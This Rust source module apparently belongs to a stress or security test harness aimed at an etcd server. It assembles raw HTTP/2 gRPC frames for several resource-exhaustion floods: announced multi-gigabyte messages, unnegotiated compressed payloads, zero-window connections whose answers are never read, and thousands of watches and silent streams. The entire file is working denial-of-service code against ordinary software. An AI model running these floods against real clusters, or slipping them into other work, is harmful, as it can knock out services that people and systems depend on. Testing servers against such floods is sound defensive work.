//! Attacks with gRPC calls that are well made and greedy: messages that are announced, answers that are not read, streams and watches
//! by the thousand.

use anyhow::Result;

use super::client::{Client, LARGE};
use super::force::{Force, repeated};
use super::frames::{
    END_STREAM, INITIAL_WINDOW, begin, field, frame, kind, message, opening, range_of, stream,
};
use super::victim::{Port, Victim};

const WATCH: &str = "/etcdserverpb.Watch/Watch";
const RANGE: &str = "/etcdserverpb.KV/Range";
const PUT: &str = "/etcdserverpb.KV/Put";

/// Connections of each attack.
const CONNECTIONS: usize = 4;
/// Streams that read greedily, on each.
const READERS: usize = 25;
/// Changes of 64 KiB that watchers are told of.
const CHANGES: usize = 100;

fn watch_request() -> Vec<u8> {
    field(1, &range_of(LARGE))
}

/// Messages of 2 GiB are announced; some of each comes.
pub(super) async fn huge_messages(victim: &Victim) -> Result<Force> {
    let mut force = Force::default();
    for len in [0x7fff_ffff_u32, 0xffff_ffff, 0x8000_0000, 600 * 1024 * 1024] {
        let mut bytes = opening(&[]);
        for index in 0..READERS {
            let prefix = [&[0], len.to_be_bytes().as_slice()].concat();
            bytes.extend(begin(stream(index), PUT));
            bytes.extend(frame(kind::DATA, 0, stream(index), &prefix));
            bytes.extend(frame(kind::DATA, 0, stream(index), &[b'x'; 16_000]));
        }
        force.flood(victim.connect(Port::Plain).await?, bytes, || None, false);
    }
    Ok(force)
}

/// A message that is announced as compressed, which nobody has agreed to.
pub(super) async fn compressed_messages(victim: &Victim) -> Result<Force> {
    let mut force = Force::default();
    for _ in 0..CONNECTIONS {
        let mut bytes = opening(&[]);
        for index in 0..READERS {
            bytes.extend(begin(stream(index), PUT));
            let content = [&[1, 0, 0, 0, 16], [0x1f; 16].as_slice()].concat();
            bytes.extend(frame(kind::DATA, END_STREAM, stream(index), &content));
        }
        force.flood(victim.connect(Port::Plain).await?, bytes, || None, false);
    }
    Ok(force)
}

/// Ranges of 1 MiB on connections whose windows are zero: the answers wait for ever.
pub(super) async fn deaf_ranges(victim: &Victim) -> Result<Force> {
    let mut force = Force::default();
    for _ in 0..CONNECTIONS {
        let mut bytes = opening(&[(INITIAL_WINDOW, 0)]);
        for index in 0..READERS {
            bytes.extend(begin(stream(index), RANGE));
            bytes.extend(message(stream(index), END_STREAM, &range_of(LARGE)));
        }
        force.flood(victim.connect(Port::Plain).await?, bytes, || None, true);
    }
    Ok(force)
}

/// Watches on streams of their own, whose windows are zero, while what they watch changes.
pub(super) async fn deaf_streams(victim: &Victim, client: &Client) -> Result<Force> {
    let mut force = Force::default();
    for _ in 0..CONNECTIONS {
        let mut bytes = opening(&[(INITIAL_WINDOW, 0)]);
        for index in 0..READERS {
            bytes.extend(begin(stream(index), WATCH));
            bytes.extend(message(stream(index), 0, &watch_request()));
        }
        force.flood(victim.connect(Port::Plain).await?, bytes, || None, true);
    }
    change(client).await?;
    Ok(force)
}

/// Many watches on one stream, whose answers nobody reads, while what they watch changes.
pub(super) async fn deaf_watches(victim: &Victim, client: &Client, count: usize) -> Result<Force> {
    let mut force = Force::default();
    let mut first = opening(&[(INITIAL_WINDOW, 0)]);
    first.extend(begin(1, WATCH));
    let creation = message(1, 0, &watch_request());
    force.flood(victim.connect(Port::Plain).await?, first, repeated(creation, count), true);
    change(client).await?;
    Ok(force)
}

/// Watches on streams of one connection, one each.
pub(super) async fn many_streams(victim: &Victim, count: usize) -> Result<Force> {
    let mut force = Force::default();
    let mut next = 0;
    let pieces = move || {
        if next >= count {
            return None;
        }
        let stream = stream(next);
        next += 1;
        Some([begin(stream, WATCH), message(stream, 0, &watch_request())].concat())
    };
    force.flood(victim.connect(Port::Plain).await?, opening(&[]), pieces, false);
    Ok(force)
}

/// Calls that begin, and say nothing more.
pub(super) async fn silent_streams(victim: &Victim, count: usize) -> Result<Force> {
    let mut force = Force::default();
    let mut next = 0;
    let pieces = move || {
        (next < count).then(|| {
            next += 1;
            begin(stream(next - 1), PUT)
        })
    };
    force.flood(victim.connect(Port::Plain).await?, opening(&[]), pieces, false);
    Ok(force)
}

async fn change(client: &Client) -> Result<()> {
    for _ in 0..CHANGES {
        client.change_large().await?;
    }
    Ok(())
}
